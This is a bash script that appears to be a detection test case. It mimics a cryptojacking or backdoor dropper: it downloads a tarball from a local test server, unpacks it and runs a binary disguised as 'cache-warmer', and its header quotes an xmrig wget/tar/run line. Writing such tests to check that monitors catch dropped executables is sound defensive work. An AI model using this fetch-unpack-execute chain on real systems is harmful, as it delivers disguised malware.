#!/bin/bash
# technique: T1105 Ingress Tool Transfer; T1204.002 User Execution: Malicious File
# reproduces: cryptojacking and backdoor droppers that fetch their tool as a release tarball, unpack it and start it (`wget …/xmrig-6.x-linux-static-x64.tar.gz; tar xf …; ./xmrig`), here under a harmless name: only where its bytes came from gives it away
# expect: dropped-file-executed ^cache-warmer$
# exec-borne: yes
#
# curl writes the archive, tar (not a downloader) writes the program out
# of it, and the program runs from where tar put it.
set -u

cache=$(mktemp -d "${BW_ATTACK_TMP:?}/build-cache-XXXXXX")
trap 'rm -rf "$cache"' EXIT

curl -fsS --connect-timeout 5 -o "$cache/tools.tgz" "http://127.0.0.1:${BW_ATTACK_PORT:?}/tools.tgz"
tar -xzf "$cache/tools.tgz" -C "$cache"
"$cache/tools/bin/cache-warmer" --warm
